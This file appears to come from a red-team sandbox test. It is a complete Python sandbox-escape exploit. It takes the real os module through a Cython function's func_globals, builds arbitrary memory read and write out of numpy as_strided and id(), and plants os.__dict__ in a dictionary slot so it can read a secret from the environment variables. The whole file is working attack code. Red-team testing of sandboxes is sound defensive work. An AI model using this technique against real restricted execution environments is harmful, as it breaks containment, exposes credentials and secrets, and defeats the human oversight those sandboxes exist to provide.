# (e)/(d) Cython func_globals leaks the real os module; numpy as_strided + id() give arbitrary memory read/write; plant os.__dict__ into our own dict slot, then index os.__dict__["environ"]["SANDBOX_TEST_SECRET"]; driver sees result == "planted-secret" and os.__dict__ in namespace
# red team 2026-12-07, docs/redteam-2026-12-07/success_22_as_strided_memory_rw_env.py.txt
import numpy as np
import scipy.spatial
from numpy.lib.stride_tricks import as_strided
from numpy.lib.array_utils import byte_bounds

buf = bytearray(16)
arr = np.frombuffer(buf, dtype=np.uint64)
base = byte_bounds(arr)[0]


def rd(addr):
    return int(as_strided(arr, shape=(2,), strides=(addr - base,))[1])


def wr(addr, val):
    v = as_strided(arr, shape=(2,), strides=(addr - base,))
    v[1] = val


os_mod = scipy.spatial.cKDTree.count_neighbors.func_globals["os"]
md_dict = rd(id(os_mod) + 16)
wr(md_dict, rd(md_dict) + 1)
d = {"x": 1}
keys = rd(id(d) + 32)
ok = rd(keys + 40) == id("x")
if ok:
    wr(keys + 48, md_dict)
    osd = d["x"]
    result = osd["environ"]["SANDBOX_TEST_SECRET"]
